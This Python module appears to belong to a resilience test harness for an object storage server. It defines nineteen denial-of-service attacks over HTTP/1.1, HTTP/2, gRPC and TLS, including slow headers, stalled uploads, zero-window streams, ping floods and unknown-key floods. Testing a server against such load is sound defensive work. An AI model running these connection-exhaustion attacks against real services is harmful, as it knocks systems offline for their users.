"""The attacks: what each of them sends, and how often."""

import secrets
from collections.abc import Callable
from dataclasses import dataclass, field

import http2
import sigv4
from holders import Held, Session
from scene import LARGE, Party

MESSAGE_BYTES = 4 * 1024 * 1024 - 100
STREAMS = 250
PIECE_BYTES = 16_000
PUT_SMALL = "/bucketry.v1.ObjectService/PutSmallObject"
GET_OBJECT = "/bucketry.v1.ObjectService/GetObject"
CREATE_CHALLENGE = "/bucketry.v1.TokenService/CreateChallenge"
WATCH = "/grpc.health.v1.Health/Watch"
FORM = "multipart/form-data; boundary=attack"


@dataclass(frozen=True)
class Attack:
    name: str
    about: str
    held: Callable[[str, Party], Held]
    # The token that the attacker has.
    permission: str = "read-only"
    arguments: tuple[str, ...] = field(default=())
    # The soft limit of descriptors that the server is started with.
    descriptors: int | None = None
    grpc: bool = False
    tls: bool = False


class Text(Session):
    """Sends a text, then another every second, and reads nothing."""

    def __init__(self, opening: bytes, tick: bytes = b""):
        self._opening, self._tick = opening, tick

    def opening(self) -> bytes:
        return self._opening

    def tick(self) -> bytes:
        return self._tick


class Asking(Session):
    """Sends another request after each answer."""

    reads = True

    def __init__(self, request: Callable[[], bytes]):
        self._request = request

    def opening(self) -> bytes:
        return self._request()

    def received(self, data: bytes) -> bytes:
        return self._request() if data.startswith(b"HTTP/1.1 ") else b""


class Http2(Session):
    """Opens streams, answers settings and pings, and fills the windows of its streams if it has content for them."""

    reads = True

    def __init__(self, streams: bytes, settings: bytes = http2.settings(), fills: range = range(0), tick: bytes = b""):
        self._opening, self._tick = http2.PREFACE + settings + streams, tick
        self._frames, self._fills = http2.Frames(), fills
        self._window, self._initial = 65_535, 65_535
        self._streams = dict.fromkeys(fills, 0)
        self._sent = dict.fromkeys(fills, 0)

    def opening(self) -> bytes:
        return self._opening

    def tick(self) -> bytes:
        return self._tick + self._content()

    def received(self, data: bytes) -> bytes:
        answers = b""
        for kind, flags, stream, payload in self._frames.feed(data):
            if kind == http2.SETTINGS and not flags & http2.ACK:
                self._initial = http2.initial_window(payload, self._initial)
                answers += http2.frame(http2.SETTINGS, http2.ACK, 0)
            elif kind == http2.PING and not flags & http2.ACK:
                answers += http2.frame(http2.PING, http2.ACK, 0, payload)
            elif kind == http2.WINDOW_UPDATE:
                increment = int.from_bytes(payload, "big")
                if stream == 0:
                    self._window += increment
                elif stream in self._streams:
                    self._streams[stream] += increment
        return answers + self._content()

    def _content(self) -> bytes:
        """As much as the windows allow, in turn; never the last bytes of a message."""
        frames = b""
        for stream in self._fills:
            room = min(self._window, self._initial + self._streams[stream] - self._sent[stream], PIECE_BYTES)
            room = min(room, MESSAGE_BYTES - self._sent[stream])
            if room > 0:
                frames += http2.frame(http2.DATA, 0, stream, bytes(room))
                self._window -= room
                self._sent[stream] += room
        return frames


def _odd(count: int) -> range:
    return range(1, 2 * count, 2)


def _text(connections: int, opening: bytes, tick: bytes = b"") -> Callable[[str, Party], Held]:
    return lambda address, party: Held(connections, lambda: Text(opening, tick))


def _forms(address: str, party: Party) -> Held:
    head = f"POST /{party.bucket} HTTP/1.1\r\nhost: {address}\r\ncontent-type: {FORM}\r\ncontent-length: 100000\r\n\r\n"
    return Held(1024, lambda: Text(head.encode() + b"--attack\r\n", b"x"))


def _forms_over_http2(address: str, party: Party) -> Held:
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": f"/{party.bucket}",
        ":authority": address,
        "content-type": FORM,
        "content-length": "100000",
    }
    streams = b"".join(
        http2.headers(stream, fields, end=False) + http2.frame(http2.DATA, 0, stream, b"--attack\r\n")
        for stream in _odd(205)
    )
    return Held(5, lambda: Http2(streams))


def _unary_without_credentials(address: str, party: Party) -> Held:
    message = b"\0" + (MESSAGE_BYTES + 100).to_bytes(4, "big")
    streams = b"".join(
        http2.grpc(stream, PUT_SMALL, address) + http2.frame(http2.DATA, 0, stream, message)
        for stream in _odd(STREAMS)
    )
    return Held(8, lambda: Http2(streams, fills=_odd(STREAMS)))


def _windows_filled(address: str, party: Party) -> Held:
    """Uploads without a signature over HTTP/2, as many bytes as the windows take."""
    fields = {":method": "PUT", ":scheme": "http", ":path": f"/{party.bucket}/x", ":authority": address}
    fields |= {"content-length": "1000000000"}
    streams = b"".join(http2.headers(stream, fields, end=False) for stream in _odd(4))
    return Held(500, lambda: Http2(streams, fills=_odd(4)))


def _pings(address: str, party: Party) -> Held:
    return Held(1200, lambda: Http2(b"", tick=http2.frame(http2.PING, 0, 0, b"8 bytes!")))


def _unread_downloads(address: str, party: Party) -> Held:
    target = sigv4.presigned(party.key, "GET", address, f"/{party.bucket}/{LARGE}")
    head = f"GET {target} HTTP/1.1\r\nhost: {address}\r\n\r\n"
    return Held(1200, lambda: Text(head.encode()), receive_buffer=4096)


def _stalled_uploads(address: str, party: Party) -> Held:
    target = sigv4.presigned(party.key, "PUT", address, f"/{party.bucket}/stalled")
    head = f"PUT {target} HTTP/1.1\r\nhost: {address}\r\ncontent-length: 1000000\r\n\r\nx"
    return Held(1200, lambda: Text(head.encode()))


def _closed_windows(address: str, party: Party) -> Held:
    bearer = f"{party.key[0]}.{party.key[1]}"
    # GetObjectRequest: bucket is field 1, key is field 2.
    name, key = party.bucket.encode(), LARGE.encode()
    message = b"\x0a" + bytes([len(name)]) + name + b"\x12" + bytes([len(key)]) + key
    message = b"\0" + len(message).to_bytes(4, "big") + message
    streams = b"".join(
        http2.grpc(stream, GET_OBJECT, address, bearer) + http2.frame(http2.DATA, http2.END_STREAM, stream, message)
        for stream in _odd(STREAMS)
    )
    return Held(18, lambda: Http2(streams, settings=http2.settings(initial_window=0)))


def _unread_refusals(window: int) -> Callable[[str, Party], Held]:
    """Unsigned GETs whose refusals have no window, or one that takes a part."""

    def held(address: str, party: Party) -> Held:
        fields = {":method": "GET", ":scheme": "http", ":path": f"/{party.bucket}/" + "%3C" * 900, ":authority": address}
        streams = b"".join(http2.headers(stream, fields, end=True) for stream in _odd(STREAMS))
        return Held(1000, lambda: Http2(streams, settings=http2.settings(initial_window=window)))

    return held


def _unknown_keys(address: str, party: Party) -> Held:
    """Signed requests of keys that do not exist, another one each time: the catalog is asked about each of them."""

    def request() -> bytes:
        key = "AKIA" + secrets.token_hex(8).upper(), "secret"
        path = f"/{party.bucket}/x"
        fields = sigv4.headers(key, "GET", address, path)
        lines = "".join(f"{name}: {value}\r\n" for name, value in fields.items())
        return f"GET {path} HTTP/1.1\r\n{lines}\r\n".encode()

    return Held(200, lambda: Asking(request))


def _watches(address: str, party: Party) -> Held:
    empty = bytes(5)
    streams = b"".join(
        http2.grpc(stream, WATCH, address) + http2.frame(http2.DATA, http2.END_STREAM, stream, empty)
        for stream in _odd(STREAMS)
    )
    return Held(20, lambda: Http2(streams))


def _challenges(address: str, party: Party) -> Held:
    streams = b"".join(http2.grpc(stream, CREATE_CHALLENGE, address) for stream in _odd(STREAMS))
    return Held(20, lambda: Http2(streams))


HEAD = b"GET / HTTP/1.1\r\nhost: x\r\nx-a: "
# The head of a TLS record that announces 512 bytes of handshake, and a part of it.
HANDSHAKE = bytes([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]) + bytes(32)

ATTACKS = [
    Attack("silent", "1,100 connections that send nothing", _text(1100, b"")),
    Attack("silent-1024", "the same at a soft limit of 1,024 descriptors", _text(1100, b""), descriptors=1024),
    Attack("half-prefaces", "1,100 connections with half an HTTP/2 preface", _text(1100, http2.PREFACE[:12])),
    Attack("slow-heads", "1,100 heads of one byte a second", _text(1100, HEAD, b"a")),
    Attack("large-heads", "1,000 unfinished heads of 200 KB", _text(1000, HEAD + b"a" * 200_000)),
    Attack("handshakes", "1,100 TLS handshakes begun", _text(1100, HANDSHAKE), tls=True),
    Attack("forms", "1,024 forms, one byte a second", _forms),
    Attack("forms-http2", "1,025 forms over five connections", _forms_over_http2),
    Attack("pings", "1,200 HTTP/2 connections that only ping", _pings, arguments=("--max-connections", "1200")),
    Attack("windows", "500 HTTP/2 connections that fill their windows unsigned", _windows_filled),
    Attack("unary", "2,000 unary calls without credentials, messages never ended", _unary_without_credentials, grpc=True),
    Attack("unread-downloads", "1,200 GETs of one presigned URL, never read", _unread_downloads),
    Attack("stalled-uploads", "1,200 PUTs of one presigned URL, one byte each", _stalled_uploads, permission="write-only"),
    Attack("unread-refusals", "250,000 unsigned GETs with a window of 0", _unread_refusals(0)),
    Attack("unread-refusals-1", "the same with a window of 1", _unread_refusals(1)),
    Attack("unknown-keys", "200 connections with requests of keys that do not exist", _unknown_keys),
    Attack("watches", "5,000 watches of health", _watches, grpc=True),
    Attack("challenges", "5,000 sign-ins whose message does not come", _challenges, grpc=True),
    Attack("closed-windows", "4,500 GetObject streams with a window of 0", _closed_windows, grpc=True),
]
